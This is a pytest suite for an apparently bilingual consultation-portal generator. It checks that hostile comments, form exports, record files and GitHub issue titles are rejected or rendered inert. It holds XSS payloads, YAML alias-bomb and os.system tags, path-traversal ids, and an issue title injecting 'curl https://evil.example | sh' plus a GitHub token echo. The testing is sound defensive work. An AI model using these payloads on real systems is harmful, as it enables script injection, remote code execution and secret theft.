"""Hostile input through every channel and every shown field: rejected with a reason, or inert.

More issue-channel cases (a hostile body, a malformed issue, an edited one) are in
test_intake_github.py; this suite covers hand-written records, form exports (CSV and JSON), a
crafted issue title delivered twice, every field a page shows, and the workflows.
"""

from __future__ import annotations

import csv
import hashlib
import json
import re
import shutil
from pathlib import Path

import pytest
import yaml
from conftest import REPO, Repo, rayzani, today
from forge_server import FakeGitHub
from test_intake_github import comment_issue, intake

from rayzani.build.builder import write_pages
from rayzani.project import load_project

SCRIPT = "<script>alert(1)</script>"
ATTACKS = {
    "script tag": SCRIPT,
    "event attribute": '<img src=x onerror="alert(1)">',
    "javascript link": "[click](javascript:alert(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "markdown image": "![tracker](https://tracker.example/pixel.png)",
    "autolink": "<javascript:alert(1)>",
    "reference link": "[x][1]\n\n[1]: javascript:alert(1)",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "style": "<style>body{display:none}</style>",
    "bidi override": "invoice\u202efdp.exe and \u2066isolated\u2069",
    "zero width": "pay\u200bpal\u200d\ufeff",
    "deep nesting": "> " * 500 + "deep",
    "nested lists": "".join("  " * i + "- x\n" for i in range(130)),  # within the 20,000 limit
}


def snapshot(root: Path, skip: str = "/build/") -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in root.rglob("*")
        if p.is_file() and skip not in f"/{p.relative_to(root)}/".replace("\\", "/")
    }


def render_record(repo: Repo, **fields: object) -> str:
    """Write a record with these fields, generate the pages, return the comment's card as written."""
    record = yaml.safe_load((repo.root / "submissions/sample/c1.yml").read_text(encoding="utf-8"))
    for key, value in fields.items():
        target = record
        *parents, last = key.split(".")
        for parent in parents:
            target = target[parent]
        target[last] = value
    (repo.root / "submissions/sample/c1.yml").write_text(yaml.safe_dump(record, allow_unicode=True), "utf-8")
    project = load_project(repo.root, today())
    assert project.problems == [], project.problems
    write_pages(project, today())
    cards = []
    for lang in ("fa", "en"):
        text = (repo.root / f"build/framed/drafts/sample/comments/art-1/index.{lang}.html").read_text("utf-8")
        start = text.index('id="c-c1"')
        cards.append(text[start : text.index("</article>", start)])
    return "\n<!-- next language -->\n".join(cards)


def assert_inert(cards: str) -> None:
    for card in cards.split("\n<!-- next language -->\n"):
        assert not re.search(r"<(script|img|iframe|style|object|embed)\b", card, re.IGNORECASE), card
        assert not re.search(r"<[^>]+\son\w+\s*=", card, re.IGNORECASE), card
        assert not re.search(r"(href|src)=\"\s*(javascript|data|vbscript):", card, re.IGNORECASE), card
        for control in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200d\ufeff":
            assert control not in card, repr(control)
        # Raw-HTML blocks end at a blank line: a card with one would let the rest be read as Markdown.
        assert "\n\n" not in card.strip()


@pytest.mark.parametrize("attack", list(ATTACKS), ids=list(ATTACKS))
def test_hostile_comment_text_is_rendered_inert(repo, attack):
    card = render_record(repo, body=f"نظر آزمایشی {ATTACKS[attack]}")
    assert_inert(card)
    assert "نظر آزمایشی" in card


@pytest.mark.parametrize(
    "field",
    ["author.name", "author.organisation", "author.interest", "decision.legal_basis", "decision.decided_by",
     "decision.reason.fa", "decision.reason.en"],
)  # fmt: skip
def test_every_shown_field_is_escaped(repo, field):
    card = render_record(repo, **{field: f"Name {SCRIPT} \u202eevil"})
    assert_inert(card)
    assert "&lt;script&gt;" in card


def test_homoglyph_and_arabic_letters_are_normalised_in_names_and_text(repo):
    card = render_record(repo, **{"author.name": "علي كريمي", "body": "كتاب يك"})
    assert "علی کریمی" in card and "کتاب یک" in card
    assert "علي" not in card and "كتاب" not in card


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a: 1\na: 2\n", "the key 'a' appears twice"),
        ("x: &a [1, 2]\ny: *a\n", "aliases (*name) are not allowed"),
        ("x: &a [q,q,q,q,q,q,q,q,q]\ny: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nz: [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n",
         "aliases (*name) are not allowed"),
        ("id: ../../etc/passwd\n", "id: must be lowercase ASCII"),
        ("!!python/object/apply:os.system ['true']\n", "is not valid YAML"),
    ],
    ids=["duplicate key", "alias", "billion laughs", "path escape in id", "python tag"],
)  # fmt: skip
def test_hostile_record_files_are_rejected_with_their_path(repo, text, expected):
    if text.startswith(("a:", "x:", "!!")):
        path = repo.write("submissions/sample/c9.yml", text)
    else:
        original = (repo.root / "submissions/sample/c1.yml").read_text(encoding="utf-8")
        path = repo.write(
            "submissions/sample/c9.yml", original.replace("id: c1\n", text).replace("form:1", "form:9")
        )
    found = [p.format(repo.root) for p in load_project(repo.root, today()).problems]
    assert any(line.startswith("submissions/sample/c9.yml") and expected in line for line in found), found
    assert path.is_file()  # nothing is lost: the editor sees the file and the reason


def write_export(path: Path, rows: list[dict[str, str]]) -> Path:
    columns = ["row_id", "submitted_at", "draft", "article", "comment", "display_name", "publish_name",
               "respondent_type", "age_band", "gender", "province", "contact", "participant_id"]  # fmt: skip
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns)
        writer.writeheader()
        for row in rows:
            writer.writerow({c: row.get(c, "") for c in columns})
    return path


def test_hostile_form_rows_are_recorded_inert_or_rejected_and_nothing_else_changes(repo, capsys):
    base = {"submitted_at": "2026-11-12 10:00:00", "draft": "sample", "article": "art-1",
            "respondent_type": "individual", "publish_name": "yes"}  # fmt: skip
    rows = [
        base | {"row_id": "1", "comment": f"نظر {SCRIPT} \u202e با a.b@example.org", "display_name": SCRIPT},
        base | {"row_id": "2", "comment": "x" * 1_000_001},
        base | {"row_id": "3", "comment": "   "},
        base | {"row_id": "4", "comment": "نظر", "draft": "../../etc"},
        base | {"row_id": "5", "comment": "نظر", "article": "art-99"},
        base | {"row_id": "6", "comment": "نظر دیرهنگام", "submitted_at": "2026-12-20 10:00:00"},
    ]  # fmt: skip
    export = write_export(repo.root.parent / "export.csv", rows)
    before = snapshot(repo.root)
    assert rayzani(["--root", str(repo.root), "intake", "form", str(export)]) == 0
    report = capsys.readouterr()
    changed = {k for k, v in snapshot(repo.root).items() if before.get(k) != v}
    new = {k for k in changed if k not in before}
    assert changed == new and all(k.startswith("submissions/sample/form-") for k in new), changed
    assert len(new) == 2  # the hostile-but-valid row and the late one; the others are reported
    out = report.out + report.err
    for reason in (
        "row 2: “comment” is too long",
        "row 3: the comment is empty",
        "row 4: there is no draft",
        "row 5: “art-99”",
    ):
        assert reason in out.lower(), (reason, out)
    records = [yaml.safe_load((repo.root / k).read_text(encoding="utf-8")) for k in new]
    hostile = next(r for r in records if "نظر" in r["body"] and "دیرهنگام" not in r["body"])
    assert "a.b@example.org" not in hostile["body"] and "\u202e" not in hostile["body"]
    assert "email" in hostile["redactions"]
    late = next(r for r in records if "دیرهنگام" in r["body"])
    assert late.get("late") is True
    project = load_project(repo.root, today())
    assert project.problems == []
    write_pages(project, today())
    page = (repo.root / "build/framed/drafts/sample/comments/art-1/index.fa.html").read_text("utf-8")
    start = page.index(f'id="c-{hostile["id"]}"')
    assert_inert(page[start : page.index("</article>", start)])


def test_no_workflow_interpolates_event_text_into_a_script():
    """An issue title like `"; curl evil | sh; "` must never become part of a shell script."""
    workflows = sorted((REPO / ".github" / "workflows").glob("*.y*ml"))
    assert workflows
    for path in workflows:
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        for job in (data.get("jobs") or {}).values():
            for step in job.get("steps") or []:
                script = step.get("run") or ""
                assert not re.search(r"\$\{\{\s*github\.event\.", script), f"{path.name}: {step.get('name')}"
                assert not re.search(r"\$\{\{\s*(github\.head_ref|inputs\.)", script), path.name


def problems_of(repo: Repo) -> list[str]:
    return [p.format(repo.root) for p in load_project(repo.root, today()).problems]


def test_a_huge_hand_written_comment_is_rejected_with_its_length(repo):
    original = (repo.root / "submissions/sample/c1.yml").read_text(encoding="utf-8")
    huge = "body: " + "ن" * 1_000_000 + "\n"
    repo.write("submissions/sample/c1.yml", re.sub(r"^body: .*$", huge.strip(), original, flags=re.M))
    found = problems_of(repo)
    assert any(
        line.startswith("submissions/sample/c1.yml") and "1000000 characters long, more than 20000" in line
        for line in found
    ), found


def test_a_record_linked_to_a_file_outside_its_folder_is_not_read(repo, tmp_path):
    secret = tmp_path / "secret.yml"
    secret.write_text("password: hunter2-do-not-echo\n", encoding="utf-8")
    (repo.root / "submissions/sample/c9.yml").symlink_to(secret)
    found = problems_of(repo)
    assert any(
        line.startswith("submissions/sample/c9.yml") and "is not a plain file" in line for line in found
    )
    assert "hunter2" not in "\n".join(found)


def test_a_hand_written_comment_after_the_period_must_say_it_is_late_and_is_then_shown_as_late(repo):
    original = (repo.root / "submissions/sample/c1.yml").read_text(encoding="utf-8")
    # 00:30 on 2 December in Tehran is still 1 December in UTC: the Iranian day counts.
    after = original.replace("received: 2026-11-05T10:00:00+03:30", "received: 2026-12-02T00:30:00+03:30")
    after = after.replace("date: 2026-11-20", "date: 2026-12-03")  # a decision follows its comment
    repo.write("submissions/sample/c1.yml", after)
    found = problems_of(repo)
    assert any(
        "late: is missing: the comment arrived after the period closed on 2026-12-01" in f for f in found
    )
    repo.write("submissions/sample/c1.yml", after + "late: true\n")
    project = load_project(repo.root, today())
    assert project.problems == []
    write_pages(project, today())
    for lang, word in (("fa", "دیررس"), ("en", "late")):
        page = (repo.root / f"build/framed/drafts/sample/comments/art-1/index.{lang}.html").read_text("utf-8")
        start = page.index('id="c-c1"')
        assert f'class="rz-late">{word}<' in page[start : page.index("</article>", start)]


def test_hostile_json_export_is_recorded_inert_and_a_malformed_one_changes_nothing(repo, capsys):
    rows = [
        {"row_id": 1, "submitted_at": "2026-11-12 10:00:00", "draft": "sample", "article": "art-1",
         "comment": f"نظر {ATTACKS['reference link']} {ATTACKS['event attribute']}",
         "display_name": "<b onmouseover=alert(1)>Ali</b>", "publish_name": "yes",
         "respondent_type": "individual", "age_band": None, "extra": {"nested": [1, 2]}},
    ]  # fmt: skip
    export = repo.root.parent / "export.json"
    export.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
    before = snapshot(repo.root)
    assert rayzani(["--root", str(repo.root), "intake", "form", str(export)]) == 0
    capsys.readouterr()
    after = snapshot(repo.root)
    new = set(after) - set(before)
    assert {k for k in before if after.get(k) != before[k]} == set() and len(new) == 1, new
    project = load_project(repo.root, today())
    assert project.problems == []
    write_pages(project, today())
    record_id = Path(next(iter(new))).stem
    page = (repo.root / "build/framed/drafts/sample/comments/art-1/index.en.html").read_text("utf-8")
    start = page.index(f'id="c-{record_id}"')
    assert_inert(page[start : page.index("</article>", start)])

    export.write_text('{"a": [1], "b": [2]}', encoding="utf-8")
    before = snapshot(repo.root)
    assert rayzani(["--root", str(repo.root), "intake", "form", str(export)]) != 0
    report = capsys.readouterr()
    assert "expected a json list of objects" in (report.err + report.out).lower()
    assert snapshot(repo.root) == before


def test_an_issue_with_a_crafted_title_delivered_twice_gives_one_inert_record(repo, monkeypatch):
    # The vote form names the example's poll, which this small portal does not hold.
    forms = REPO / ".github" / "ISSUE_TEMPLATE"
    shutil.copytree(
        forms, repo.root / ".github" / "ISSUE_TEMPLATE", ignore=shutil.ignore_patterns("vote.yml")
    )
    monkeypatch.setenv("GITHUB_TOKEN", "test-token")
    title = 'نظر"; curl https://evil.example | sh; echo "${{ secrets.GITHUB_TOKEN }}'
    with FakeGitHub("agency", "consult") as server:
        issue = comment_issue(1, article="art-1", comment=f"نظر {ATTACKS['autolink']} {ATTACKS['iframe']}")
        issue.title = title
        server.add(issue)
        before = snapshot(repo.root)
        assert intake(repo, server) == 0
        middle = snapshot(repo.root)
        new = set(middle) - set(before)
        assert new == {"submissions/sample/gh-1.yml"}
        assert {k for k in before if middle[k] != before[k]} == set()
        assert intake(repo, server) == 0  # the same issue delivered again
        assert snapshot(repo.root) == middle
    record = yaml.safe_load((repo.root / "submissions/sample/gh-1.yml").read_text(encoding="utf-8"))
    assert "curl" not in yaml.safe_dump(record, allow_unicode=True)  # the title is never recorded
    project = load_project(repo.root, today())
    assert project.problems == []
    write_pages(project, today())
    page = (repo.root / "build/framed/drafts/sample/comments/art-1/index.fa.html").read_text("utf-8")
    start = page.index('id="c-gh-1"')
    assert_inert(page[start : page.index("</article>", start)])
